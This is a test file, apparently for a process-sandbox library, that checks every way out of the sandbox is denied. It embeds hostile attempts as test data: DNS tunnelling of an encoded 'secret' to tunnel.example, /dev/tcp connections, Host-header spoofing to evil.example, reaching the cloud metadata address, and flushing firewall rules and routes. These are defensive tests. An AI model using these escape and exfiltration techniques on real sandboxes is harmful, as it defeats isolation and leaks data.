// Ways out that are tried from inside. A server of ours stands for what must not be reached: it hears nothing. Every denial is told.
import type * as net from 'node:net';
import { hostname } from 'node:os';
import { type Denial, spawnIsolated } from 'cloister';
import { describe, expect, test } from 'vitest';
import { bridgeSubnets } from '../../lib/network/bridge-subnets.js';
import { AllowList } from '../../lib/network/egress/allow-list.js';
import { addressesOf } from '../../lib/network/egress/outside.js';
import { Policy } from '../../lib/network/egress/policy.js';
import { parseSubnet, type Subnet } from '../../lib/network/ip.js';
import { testNeeding } from '../helpers/lane.js';
import { ask, startProbe } from '../helpers/probe.js';
import { portOf, runTelling, tcpServer } from '../helpers/world.js';

/** Counts who gets through. */
async function forbidden() {
  const heard: string[] = [];
  const server = await tcpServer((socket: net.Socket) => {
    heard.push('a connection');
    socket.on('data', (chunk) => heard.push(String(chunk)));
    socket.resume();
  });
  return { heard, port: portOf(server), [Symbol.asyncDispose]: () => server[Symbol.asyncDispose]() };
}
const python = (script: string, options: Parameters<typeof runTelling>[2]) => runTelling('python3', ['-c', script], options);
const network = { egress: { allow: ['allowed.example', '10.9.0.0/16:80'] }, dns: { 'allowed.example': '127.0.0.1' } };
const kinds = (denied: readonly Denial[]): string[] =>
  denied.map(({ kind, address, port, hostname: name }) => [kind, name, address, port].filter(Boolean).join(' '));

/** A question by hand: libraries would not ask it so. */
const asking = `
import socket, struct
def question(name, kind=1):
    labels = b''.join(bytes([len(l)]) + l for l in name.encode().split(b'.'))
    return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + struct.pack('>BHH', 0, kind, 1)
def udp(server, name, kind=1, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(10)
    s.connect((server, 53))
    s.send(question(name, kind))
    return s.recv(4096)
def code(answer): return answer[3] & 15, answer[7]
`;

describe('addresses by number', () => {
  test('of IPv4 and IPv6, of this host and of others, by TCP and UDP', async () => {
    await using secret = await forbidden();
    const targets = ['192.0.2.1', '10.9.0.1', '169.254.169.254', '2001:db8::1', '::ffff:192.0.2.1', 'fd00::1'];
    const questions = targets.flatMap(
      (address) =>
        [
          ['connect-tcp', address, secret.port, 'x'],
          ['send-udp', address, 5353, 'x'],
        ] as const,
    );
    const { process, lines } = startProbe(questions, { network });
    const denied: Denial[] = [];
    process.on('denied', (denial) => denied.push(denial));
    const answers: string[] = [];
    for (let index = 0; index < questions.length; index++) answers.push(JSON.parse(await lines.next()).errno);
    await process.exited;
    expect(answers.map((errno) => ['ECONNRESET', 'ECONNREFUSED', 'EPIPE'].includes(errno))).toEqual(questions.map(() => true));
    const told = targets.map((address) => address.replace('::ffff:', ''));
    expect(denied.map(({ address, port }) => `${address} ${port}`)).toEqual(told.flatMap((address) => [`${address} ${secret.port}`, `${address} 5353`]));
    expect(denied.every(({ kind, pid }) => kind === 'egress' && pid === process.pid)).toBe(true);
    expect(secret.heard).toEqual([]);
  });

  test('that could be names, and are none', async () => {
    await using secret = await forbidden();
    const asked: unknown[] = [];
    const egress = (request: unknown) => {
      asked.push(request);
      return true;
    };
    const [four, six] = await ask(
      [
        ['connect-tcp', '198.18.1.9', secret.port, 'x'],
        ['connect-tcp', 'fdc1:157:e2aa:0:100::109', secret.port, 'x'],
      ],
      { network: { egress } },
    );
    expect([four.received ?? '', six.received ?? '', asked]).toEqual(['', '', []]);
  });

  test("this host's loopback is not the sandbox's", async () => {
    await using secret = await forbidden();
    const answers = await ask(
      [
        ['connect-tcp', '127.0.0.1', secret.port],
        ['connect-tcp', '::1', secret.port],
        ['connect-tcp', '0.0.0.0', secret.port],
        ['connect-tcp', '198.18.0.1', secret.port],
      ],
      { network },
    );
    expect(answers.map(({ errno }) => errno)).toEqual(Array(4).fill('ECONNREFUSED'));
    expect(secret.heard).toEqual([]);
  });
});

describe('names', () => {
  testNeeding(['python3'])('that are not allowed carry nothing out, whoever is asked, in whatever form', async () => {
    const script = `${asking}
print(code(udp('198.18.0.1', 'c2VjcmV0.tunnel.example')))
print(code(udp('8.8.8.8', 'c2VjcmV0.tunnel.example', 16)))
print(code(udp('2001:4860:4860::8888', 'tunnel.example', 28, socket.AF_INET6)))
s = socket.create_connection(('1.1.1.1', 53))
q = question('x.tunnel.example')
s.sendall(struct.pack('>H', len(q)) + q)
print(code(s.recv(4096)[2:]))
print(code(udp('198.18.0.1', 'below.allowed.example')))
print(code(udp('198.18.0.1', 'allowed.example', 16)))
print(code(udp('198.18.0.1', 'allowed.example')))
`;
    const { stdout, stderr, denied, process } = await python(script, { network });
    expect([stdout.split('\n'), stderr]).toEqual([['(3, 0)', '(3, 0)', '(3, 0)', '(3, 0)', '(3, 0)', '(0, 0)', '(0, 1)', ''], '']);
    expect(kinds(denied)).toEqual([
      'dns c2vjcmv0.tunnel.example 198.18.0.1 53',
      'dns c2vjcmv0.tunnel.example 8.8.8.8 53',
      'dns tunnel.example 2001:4860:4860::8888 53',
      'dns x.tunnel.example 1.1.1.1 53',
      'dns below.allowed.example 198.18.0.1 53',
    ]);
    expect(denied.every(({ pid }) => pid === process.pid)).toBe(true);
  });

  testNeeding(['python3'])('a flood of names has an end', async () => {
    const script = `${asking}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(('198.18.0.1', 53))
codes = set()
for i in range(16500):
    s.send(question('n%d.example' % i))
    codes.add(s.recv(512)[3] & 15)
print(sorted(codes))
`;
    const { stdout, stderr } = await python(script, { network: { egress: () => false } });
    expect([stdout, stderr]).toEqual(['[0, 2]\n', '']);
  });

  test('that lead to this host or its links are not followed, unless that network is allowed (rebinding)', async () => {
    const none = new Map<string, string>();
    const policy = (...allow: string[]): Policy => new Policy(AllowList.parse(allow, 'allow'), none);
    await expect(addressesOf('localhost', 80, policy('localhost'))).rejects.toMatchObject({ address: expect.stringMatching(/^(127\.0\.0\.1|::1)$/) });
    await expect(addressesOf('localhost', 80, new Policy(() => true, none))).rejects.toThrow('a name leads to');
    await expect(addressesOf('localhost', 80, policy('localhost', '127.0.0.0/8:81', '[::1]:81'))).rejects.toThrow('a name leads to');
    expect((await addressesOf('localhost', 80, policy('localhost', '127.0.0.0/8', '::1')))[0]).toMatch(/^(127\.0\.0\.1|::1)$/);
    for (const address of ['127.9.9.9', '0.0.0.0', '169.254.169.254', '::1', '::ffff:127.0.0.1', 'fe80::1', 'fd00:ec2::254'])
      await expect(addressesOf(address, 80, policy('x'))).rejects.toMatchObject({ address });
    // Nor to a bridge: only this host reaches it.
    const subnet = parseSubnet('203.0.113.0/24') as Subnet;
    expect(await addressesOf('203.0.113.9', 80, policy('x'))).toEqual(['203.0.113.9']);
    bridgeSubnets.add(subnet);
    await expect(addressesOf('203.0.113.9', 80, policy('x'))).rejects.toMatchObject({ address: '203.0.113.9' });
    bridgeSubnets.delete(subnet);
  });

  testNeeding(['own-name'])("the host's own name, allowed, does not lead to the host", async () => {
    await using secret = await forbidden();
    const { denied } = await runTelling('bash', ['-c', `exec 3<>/dev/tcp/own.example/${secret.port}; read -u 3 line`], {
      network: { egress: () => ({ port: secret.port }) },
    });
    // own.example does not exist: refused, and not told as denied.
    expect([denied, secret.heard]).toEqual([[], []]);
    const named = await runTelling('bash', ['-c', `exec 3<>/dev/tcp/${hostname()}/${secret.port}; read -u 3 line; echo $?`], {
      network: { egress: { allow: [hostname()] } },
      mounts: [{ type: 'file', target: '/etc/hosts', contents: '' }],
    });
    expect([named.stdout, kinds(named.denied), secret.heard]).toEqual(['1\n', [expect.stringContaining(`egress ${hostname()} `)], []]);
  });

  testNeeding(['python3'])('said to be others: Host, absolute target, folded and repeated headers', async () => {
    await using secret = await forbidden();
    const script = `
import socket
def say(text):
    s = socket.create_connection(('allowed.example', ${secret.port}))
    for i in range(0, len(text), 7): s.sendall(text[i:i+7])
    try: return s.recv(10)
    except ConnectionError: return b'reset'
for text in (b'GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n', b'GET http://evil.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n',
             b'GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\nhost:evil.example\\r\\n\\r\\n', b'\\r\\nGET / HTTP/1.1\\nX: y\\n HOST : evil.example\\n\\n'):
    try: print(say(text))
    except ConnectionError: print(b'reset')
`;
    const { stdout, stderr, denied } = await python(script, { network });
    expect([stdout, stderr]).toEqual(["b'reset'\n".repeat(4), '']);
    expect(denied.map(({ hostname: name }) => name)).toEqual(Array(4).fill('evil.example'));
    expect(secret.heard.filter((said) => said !== 'a connection')).toEqual([]);
  });
});

describe('the network itself', () => {
  test('without capabilities: no raw sockets, no packets, no ICMP, no change of routes', async () => {
    const answers = await ask(
      [
        ['socket', 'inet', 'raw', 1],
        ['socket', 'inet6', 'raw', 58],
        ['socket', 'packet', 'raw', 3],
        ['socket', 'inet', 'dgram', 1],
      ],
      { network },
    );
    expect(answers.map(({ errno }) => errno)).toEqual(['EPERM', 'EPERM', 'EAFNOSUPPORT', 'EACCES']);
  });

  testNeeding(['python3', 'program:nft', 'program:ip'])(
    'with CAP_NET_ADMIN and CAP_NET_RAW: filter and routes can be taken away, and nothing is there then',
    async () => {
      await using secret = await forbidden();
      const script = `
import socket, subprocess
def attempt(address, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect((address, ${secret.port}))
        s.send(b'x')
        return s.recv(1)
    except OSError as e: return type(e).__name__
def ping():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
    s.settimeout(0.5)
    s.sendto(bytes.fromhex('0800f7ff00000000'), ('192.0.2.1', 0))
    try: return s.recv(100)
    except TimeoutError: return 'silence'
print(attempt('192.0.2.1'), ping())
subprocess.run('nft flush ruleset; ip route flush table local; ip -6 route flush table local; ip addr add 127.0.0.1/8 dev lo', shell=True, stderr=subprocess.DEVNULL)
for address in ('192.0.2.1', '127.0.0.1', '169.254.169.254'): print(attempt(address))
subprocess.run('ip link add d0 type dummy; ip addr add 192.0.2.9/24 dev d0; ip link set d0 up; ip route add default via 192.0.2.1', shell=True, stderr=subprocess.DEVNULL)
print(attempt('127.0.0.1'), attempt('192.0.2.9'))
`;
      const { stdout, stderr, denied } = await python(script, { network, capabilities: ['CAP_NET_ADMIN', 'CAP_NET_RAW'] });
      expect(stdout.split('\n')[0]).toBe('ConnectionResetError silence');
      expect([stdout.includes("b'"), stderr]).toEqual([false, '']);
      expect(denied[0]).toMatchObject({ kind: 'egress', address: '192.0.2.1' });
      expect(secret.heard).toEqual([]);
    },
  );
});

describe('floods', () => {
  testNeeding(['python3'])('of denied connections: each is reset and told, and what is allowed still works', async () => {
    await using world = await tcpServer((socket) => socket.end('here'));
    const script = `
import socket
reset = 0
for i in range(1500):
    s = socket.socket()
    try:
        s.connect(('192.0.2.1', 9))
        if s.recv(1) == b'': pass
    except ConnectionError: reset += 1
    s.close()
print(reset, socket.create_connection(('allowed.example', ${portOf(world)})).recv(10))
`;
    const { stdout, stderr, denied } = await python(script, { network });
    expect([stdout, stderr, denied.length]).toEqual(["1500 b'here'\n", '', 1500]);
  });

  testNeeding(['python3'])('of connections that say nothing, and of questions without answers read, keep nobody else waiting', async () => {
    await using world = await tcpServer((socket) => socket.pipe(socket));
    const script = `${asking}
silent = [socket.create_connection(('allowed.example', ${portOf(world)})) for _ in range(400)]
halves = [socket.create_connection(('allowed.example', ${portOf(world)})) for _ in range(100)]
for s in halves: s.sendall(b'\\x16\\x03\\x01')
deaf = socket.create_connection(('198.18.0.1', 53))
deaf.setblocking(False)
q = question('allowed.example')
try:
    while True: deaf.send((struct.pack('>H', len(q)) + q) * 100)
except BlockingIOError: pass
s = socket.create_connection(('allowed.example', ${portOf(world)}))
s.sendall(b'echo\\n')
print(s.recv(10))
`;
    const before = process.memoryUsage().rss;
    const { stdout, stderr, denied } = await python(script, { network });
    expect([stdout, stderr]).toEqual(["b'echo\\n'\n", '']);
    expect(denied.map(({ hostname: name }) => name)).toEqual([]);
    expect(process.memoryUsage().rss - before).toBeLessThan(200 * 2 ** 20);
  });
});

test('detached, and a network that is not its own, are refused', () => {
  const refusal = (options: object): string => {
    try {
      spawnIsolated('true', options);
      return 'accepted';
    } catch (error) {
      return String(error);
    }
  };
  expect([
    refusal({ network, detached: true }),
    refusal({ network, namespaces: { net: 'host' } }),
    refusal({ network: { egress: { allow: 'x' } } }),
    refusal({ network: { egress: 'allow' } }),
    refusal({ network: { egress: 'deny', dns: { a: 'b' } } }),
    refusal({ network: { dns: {} } }),
  ]).toMatchInlineSnapshot(`
    [
      "TypeError: option 'detached' takes false with ports or egress: they live in this process; got true",
      "TypeError: option 'network' takes the same as namespaces.net, if both are given; got an instance of Object",
      "TypeError: option 'network.egress.allow' takes an array; got "x"",
      "TypeError: option 'network.egress' takes 'deny', { allow: [...] } or a function; got "allow"",
      "TypeError: option 'network.dns.a' takes an IPv4 or IPv6 address, or 'localhost'; got "b"",
      "TypeError: option 'network.dns' takes nothing without egress: nobody would ask; got an instance of Object",
    ]
  `);
});
